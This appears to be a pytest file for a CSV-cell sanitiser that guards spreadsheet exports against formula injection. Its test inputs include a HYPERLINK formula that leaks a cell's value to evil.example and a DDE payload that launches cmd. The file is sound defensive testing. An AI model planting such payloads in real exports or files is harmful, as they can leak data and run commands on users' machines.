"""CSV cells never start like a formula once written; everything else is untouched."""
import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from serial_traceability.lib.csv_cells import FORMULA_STARTS, safe_cell, safe_row


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1", "=", "-",
])
def test_formula_like_text_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [
    "Hospital A", "", " =1+1", "'=already text", "1-2", "a=b", "\n=1", 3, -1, -2.5, None,
    True,
])
def test_other_values_are_untouched(value):
    assert safe_cell(value) is value


def test_a_row_through_the_csv_writer():
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(["=cmd|' /C calc'!A0", "ok", -3, "@x"]))
    assert out.getvalue() == "'=cmd|' /C calc'!A0,ok,-3,'@x\r\n"


@settings(max_examples=500, deadline=None, database=None, derandomize=True)
@given(st.text(st.characters(blacklist_characters="\x00")))
def test_any_text_reads_back_as_text(text):
    # (no NUL: Python's csv reader refuses it; the database cannot hold it anyway)
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)
    out = io.StringIO()
    csv.writer(out).writerow([cell])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [cell]
